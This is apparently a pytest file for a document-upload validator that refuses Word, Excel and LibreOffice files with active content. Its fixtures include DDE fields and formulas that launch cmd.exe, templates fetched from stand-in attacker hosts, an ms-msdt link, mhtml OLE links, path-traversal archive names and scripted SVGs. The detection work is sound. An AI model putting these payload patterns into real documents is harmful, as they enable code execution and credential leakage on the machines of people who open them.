"""Office documents that would run, fetch or send something when opened are refused; the others are not."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError

from partenariat.donnees.contenus import actifs
from partenariat.donnees.contenus.parties import plain
from tests.partenariat.actifs_bureautiques import (
    AILLEURS,
    MENU,
    OLE,
    PNG,
    champ,
    dedans,
    excel,
    libreoffice,
    powerpoint,
    relations,
    svg,
    word,
    word_lie,
)
from tests.partenariat.test_depots import examiner
from tests.partenariat.test_depots_archives import pdf

LIENS = "word/_rels/document.xml.rels"
DDE = r"DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot;"
IMAGE_LIEE = "INCLUDEPICTURE &quot;http://evil.example/x.png&quot; {}"
VML = "<w:pict><v:shape {}><v:imagedata {}/></v:shape></w:pict>"
PROGRAMME = '<p:s xmlns:p="urn:p" xmlns:a="urn:a"><a:hlinkClick action="{}"/></p:s>'
CONNEXION = '<connections><connection id="1" name="Ventes" type="5" refreshedVersion="6"/></connections>'
CLASSEUR_LIE = "xl/externalLinks/_rels/externalLink1.xml.rels"
DOC_DEDANS = "word/embeddings/Microsoft_Excel_Worksheet.xlsx"
ODF_FORMULE = '<table:table-cell table:formula="of:={}"/>'

ACTIFS = {
    # --- Word -----------------------------------------------------------------------------------------
    "modèle sur le Web": (word_lie(("attachedTemplate", AILLEURS), de="settings"), "son modèle"),
    "modèle sur un serveur": (word_lie(("attachedTemplate", r"\\evil\x.dotm"), de="settings"), "son modèle"),
    "modèle file: d'un serveur": (
        word_lie(("attachedTemplate", "file:////evil/x.dotm"), de="settings"), "son modèle"),
    "modèle dit lien": (word_lie(("hyperlink", AILLEURS), de="settings"), "va chercher ailleurs"),
    "image du Web": (word_lie(("image", "https://evil.example/p.png")), "https://evil.example/p.png"),
    "objet lié": (word_lie(("oleObject", "mhtml:http://evil.example/x!x-usc:http://x")), "va chercher"),
    "cadre": (word_lie(("frame", r"file:///\\evil\x"), de="webSettings"), "va chercher ailleurs"),
    "objet OLE": (word(**{"word/embeddings/oleObject1.bin": OLE}), "oleObject1.bin"),
    "programme": (word(**{"word/embeddings/package.exe": b"MZ" + b"\0" * 600}), "package.exe"),
    "programme sans nom": (word(**{"word/media/image1.png": b"MZ" + b"\0" * 600}), "image1.png"),
    "objet inconnu": (word(**{"word/embeddings/x.bin": b"abc"}), "x.bin"),
    "objet ailleurs": (word_lie(("oleObject", "media/x.odttf"), **{"word/media/x.odttf": OLE}), "x.odttf"),
    "page": (word(**{"word/afchunk.htm": "<p/>"}), "afchunk.htm"),
    "page sous un autre nom": (word(**{"word/x.dat": "<html><body/></html>"}), "x.dat"),
    "texte d'un autre format": (word_lie(("aFChunk", "x.txt"), **{"word/x.txt": "abc"}), "x.txt"),
    "altChunk": (word('<w:altChunk r:id="r1"/>'), "altChunk"),
    "page après des blancs": (word(**{"word/x.dat": " " * 99 + "<a><html/></a>"}), "html"),
    "modèle après des blancs": (
        word(**{"word/_rels/x.rels": " " * 99 + relations(("attachedTemplate", AILLEURS))}), "son modèle"),
    "RTF": (word(**{"word/x.dat": r"{\rtf1 x}"}), "x.dat"),
    "macros d'un autre nom": (word_lie(("vbaProject", "x.bin"), **{"word/x.bin": "d"}), "macros"),
    "DDE": (word(champ(DDE)), "DDE"),
    "DDE coupé": (word(champ("DD", "EAU", r"TO c:\\x")), "DDE"),
    "DDE coupé par un texte": (word(champ("DD", entre="<w:r><w:t>E x</w:t></w:r>")), "DDE"),
    "DDE d'un trait": (word(f'<w:fldSimple w:instr="{DDE}"/>'), "DDE"),
    "DDE sans fin": (word('<w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText>'), "DDE"),
    "DDE en pied de page": (word(**{"word/footer1.xml": '<a><fldSimple instr="dde x y"/></a>'}), "DDE"),
    "DDE en UTF-16": (
        word(**{"word/footer1.xml": '<?xml version="1.0" encoding="UTF-16"?><a><fldSimple instr="DDE x"/></a>'
                .encode("utf-16")}), "DDE"),
    "base de données": (word(champ(r"DATABASE \d x")), "DATABASE"),
    "texte lié": (word(champ(r"INCLUDETEXT &quot;\\\\evil\\x.docx&quot;")), "va chercher ailleurs"),
    "liaison": (word(champ(r"LINK Excel.Sheet.12 &quot;http://evil/x&quot; &quot;A1&quot; \a")), "ailleurs"),
    "image sans copie": (word(champ(IMAGE_LIEE.format(r"\d"))), "va chercher ailleurs"),
    "image à jour": (word(champ(IMAGE_LIEE.format(""), sale=' w:dirty="true"')), "va chercher ailleurs"),
    "champs à jour": (
        word(champ(IMAGE_LIEE.format("")), **{"word/settings.xml": '<s><updateFields val="true"/></s>'}),
        "va chercher ailleurs"),
    "image VML": (word(VML.format("", f'src="{AILLEURS}"')), "va chercher ailleurs"),
    "publipostage": (word(**{"word/settings.xml": "<s><mailMerge/></s>"}), "publipostage"),
    "lien qui lance": (word_lie(("hyperlink", "ms-msdt:/id PCWDiagnostic")), "lance un programme"),
    "présentation qui lance": (
        word(**{"word/embeddings/p.pptx": powerpoint(**{"ppt/s.xml": PROGRAMME.format("ppaction://program")})}),
        "lance un programme"),
    # --- Excel ----------------------------------------------------------------------------------------
    "connexion": (excel(**{"xl/connections.xml": CONNEXION}), "Ventes"),
    "classeur lié du Web": (
        excel(**{CLASSEUR_LIE: relations(("externalLinkPath", AILLEURS))}), "va chercher ailleurs"),
    "classeur DDE": (
        excel(**{"xl/externalLinks/e.xml": '<e><ddeLink ddeService="cmd" ddeTopic="/c calc"/></e>'}), "cmd"),
    "formule DDE": (excel("<c><f>cmd|'/c calc'!A0</f></c>"), "cmd|"),
    "formule du Web": (excel('<c><f>_xlfn.WEBSERVICE("http://x")</f></c>'), "formule"),
    "image par formule": (excel('<c><f>1+_xlfn.IMAGE("http://x")</f></c>'), "IMAGE"),
    "nom défini": (excel(**{"xl/w.xml": "<w><definedName>RTD(1)</definedName></w>"}), "RTD"),
    # --- LibreOffice ----------------------------------------------------------------------------------
    "nom qui sort": (libreoffice(**{"../../../etc/x": "x"}), "../../../etc/x"),
    "nom qui sort à la Windows": (libreoffice(**{"a\\..\\..\\x": "x"}), "mène hors de lui"),
    "nom absolu": (libreoffice(**{"/etc/x": "x"}), "mène hors de lui"),
    "script dans le texte": (libreoffice("<text:script>1</text:script>"), "macros"),
    "script lié": (
        libreoffice('<script:event-listener xlink:href="vnd.sun.star.script:x$f"/>'), "macros"),
    "lien vers un script": (libreoffice('<text:a xlink:href="vnd.sun.star.script:x$f">x</text:a>'), "macros"),
    "lien macro": (libreoffice('<text:a xlink:href="macro:///x">x</text:a>'), "lance un programme"),
    "menu qui lance": (
        libreoffice(**{"Configurations2/menubar/m.xml": MENU.format("vnd.sun.star.script:x")}), "macros"),
    "image ODF du Web": (libreoffice(f'<draw:image xlink:href="{AILLEURS}"/>'), AILLEURS),
    "image ODF d'un serveur": (libreoffice('<draw:image xlink:href="//evil/x.png"/>'), "va chercher"),
    "image ODF masquée": (libreoffice('<draw:image xlink:href="/&#9;/evil/x.png"/>'), "va chercher ailleurs"),
    "section liée": (libreoffice(f'<text:section-source xlink:href="{AILLEURS}"/>'), "va chercher ailleurs"),
    "cadre flottant": (libreoffice('<draw:floating-frame xlink:href="x"/>'), "floating-frame"),
    "programme Java": (libreoffice("<draw:applet/>"), "applet"),
    "objet OLE d'ODF": (libreoffice(**{"Object 1": OLE}), "Object 1"),
    "DDE d'ODF": (libreoffice('<text:dde-connection-decl office:dde-application="soffice"/>'), "soffice"),
    "DDE de feuille": (libreoffice("<table:dde-link/>", "spreadsheet"), "DDE"),
    "formule DDE d'ODF": (
        libreoffice(ODF_FORMULE.format("DDE(&quot;soffice&quot;)"), "spreadsheet"), "DDE"),
    "formule du Web d'ODF": (
        libreoffice(ODF_FORMULE.format("COM.MICROSOFT.WEBSERVICE([.A1])"), "spreadsheet"), "WEBSERVICE"),
    "objet d'ODF actif": (
        libreoffice(**{"Object 1/content.xml": "<a><draw:x xlink:href='http://e/'/></a>"}), "va chercher"),
    "rechargement": (libreoffice(meta=f'<meta:auto-reload xlink:href="{AILLEURS}"/>'), "va chercher"),
    # --- Drawings, and documents within ---------------------------------------------------------------
    "SVG à script": (word(**{"word/media/i.svg": svg("<script>1</script>")}), "SVG"),
    "SVG à gestionnaire": (word(**{"word/media/i.svg": svg(onload="x()")}), "SVG"),
    "SVG qui appelle": (word(**{"word/media/i.svg": svg(f'<image xlink:href="{AILLEURS}"/>')}), "ailleurs"),
    "SVG stylé d'ailleurs": (
        libreoffice(**{"Pictures/i.svg": svg("<style>@import 'http://e/x'</style>")}), "va chercher"),
    "macros dedans": (word(**{DOC_DEDANS: excel(**{"xl/vbaProject.bin": "x"})}), "macros"),
    "actif dedans": (word(**{DOC_DEDANS: excel(**{"xl/connections.xml": CONNEXION})}), "Ventes"),
    "actif au fond": (dedans(dedans(word(champ(DDE)))), "DDE"),
    "archive dedans": (word(**{"word/media/x.zip": b"PK\x03\x04" + b"\0" * 40}), "accepté"),
    "trop profond": (dedans(dedans(dedans(dedans(word())))), "trop de travail"),
}  # fmt: skip

INERTES = {
    "lien du Web": word_lie(("hyperlink", "https://montreal.ca/a?b=c"), ("hyperlink", "mailto:a@b.ca")),
    "lien vers un serveur": word_lie(("hyperlink", r"file:///\\srv\dossier\bilan.docx")),
    "modèle de ce poste": word_lie(
        ("attachedTemplate", r"file:///C:\Users\x\Modeles\Lettre%20Ville.dotx"), de="settings"
    ),
    "modèle d'un Mac": word_lie(("attachedTemplate", "file://localhost/Users/x/a.dotm"), de="settings"),
    "image gardée": word_lie(("image", "media/image1.png"), **{"word/media/image1.png": PNG}),
    "champs ordinaires": word(
        champ("PAGE")
        + champ(r"TOC \o &quot;1-3&quot; \h")
        + champ("HYPERLINK &quot;http://x.ca/&quot;")
        + champ(r"LINK Excel.Sheet.12 &quot;C:\\Users\\x\\Budget.xlsx&quot; &quot;Feuil1!L1C1:L5C3&quot; \a")
        + "<w:t>DDEAUTO est un champ</w:t>",
        **{"word/settings.xml": '<s><updateFields val="true"/></s>'},
    ),
    "image collée d'une page": word(champ(IMAGE_LIEE.format(r"\* MERGEFORMATINET"))),
    "forme à lien": word(VML.format('href="http://x.ca/"', 'r:id="r1" o:title="x"')),
    "graphique de Word": word_lie(
        ("chart", "charts/chart1.xml"),
        **{
            "word/charts/chart1.xml": "<c:c xmlns:c='urn:c'><c:f>Feuil1!$A$1:$B$2</c:f></c:c>",
            "word/charts/_rels/chart1.xml.rels": relations(("package", "../embeddings/Classeur.xlsx")),
            "word/embeddings/Classeur.xlsx": excel("<c><f>SUM(A1:A3)</f></c>"),
        },
    ),
    "présentation dedans": word(
        **{
            "word/embeddings/p.pptx": powerpoint(
                **{
                    "ppt/s.xml": PROGRAMME.format("ppaction://hlinksldjump"),
                    "ppt/embeddings/Classeur.xlsx": excel(),
                }
            )
        }
    ),
    "icône SVG": word(**{"word/media/image2.svg": svg("<image href='data:image/png;base64,AA=='/>")}),
    "police": word(**{"word/fonts/font1.odttf": b"MZ" + b"\0" * 40}),
    "réglages d'imprimante": excel(**{"xl/printerSettings/printerSettings1.bin": b"H\0P\0\0\0" * 40}),
    "formules": excel(
        '<c><f>SUM(A1:A3)+\'a|b\'!A1</f></c><c><f>HYPERLINK("http://x.ca/","IMAGE(1)")</f></c>'
    ),
    "classeur lié d'à côté": excel(
        **{
            "xl/externalLinks/externalLink1.xml": "<externalLink><externalBook r='x'/></externalLink>",
            CLASSEUR_LIE: relations(("externalLinkPath", "Budget%202026.xlsx")),
        }
    ),
    "texte": libreoffice(
        '<text:a xlink:href="https://montreal.ca/">x</text:a><text:a xlink:href="#a:b">y</text:a>'
        '<draw:image xlink:href="Pictures/1.png"/><draw:object xlink:href="./Object 1"/>'
        '<text:section-source xlink:href="../annexe.odt"/><text:dde-connection-decls/>',
        meta='<meta:template xlink:href="file:///home/x/Mod%C3%A8les/lettre.ott"/>',
        **{
            "Pictures/1.png": PNG,
            "Object 1/content.xml": "<m/>",
            "ObjectReplacements/Object 1": b"VCLMTF" + b"\0" * 40,
        },
    ),
    "binaire vide": word(**{"word/x.dat": b"\0" * 99}),
    "formulaire": libreoffice('<form:form form:name="F" xlink:href="" form:datasource="Biblio"/>'),
    "classeur ODF": libreoffice(
        ODF_FORMULE.format("SUM([.A1:.A3])") + ODF_FORMULE.format("HYPERLINK(&quot;http://x.ca&quot;)"),
        "spreadsheet",
    ),
    "PDF en image": libreoffice(**{"Pictures/1.pdf": pdf()}),
}


@pytest.mark.parametrize("cas", ACTIFS)
def test_a_document_that_acts_by_itself_is_refused_and_told_what_to_do(cas):
    contenu, mot = ACTIFS[cas]
    with pytest.raises(ValidationError) as refus:
        examiner(contenu)
    assert mot in refus.value.messages[0]


@pytest.mark.parametrize("cas", INERTES)
def test_an_ordinary_document_is_taken(cas):
    assert examiner(INERTES[cas]).taille == len(INERTES[cas])


def test_whom_the_documents_within_name_is_known():
    noms = '<c xmlns:dc="urn:dc"><dc:creator>Alex Roy</dc:creator></c>'
    assert "Alex Roy" in examiner(word(**{DOC_DEDANS: excel(**{"docProps/core.xml": noms})})).nommes


@pytest.mark.parametrize(
    "bornes",
    [{"octets": 1000}, {"elements": 50}, {"incorpores": 10}],
    ids=["octets", "éléments", "documents"],
)
def test_reading_stops_at_its_bounds(bornes):
    contenu = word("<w:p>x</w:p>" * 100, **{"a.docx": word()})
    with zipfile.ZipFile(io.BytesIO(contenu)) as ouverte:
        parties = {plain(info.orig_filename): info for info in ouverte.infolist()}
        assert actifs.juger(ouverte, parties, actifs.Travail())
        with pytest.raises(ValidationError, match="trop de travail"):
            actifs.juger(ouverte, parties, actifs.Travail(**bornes))
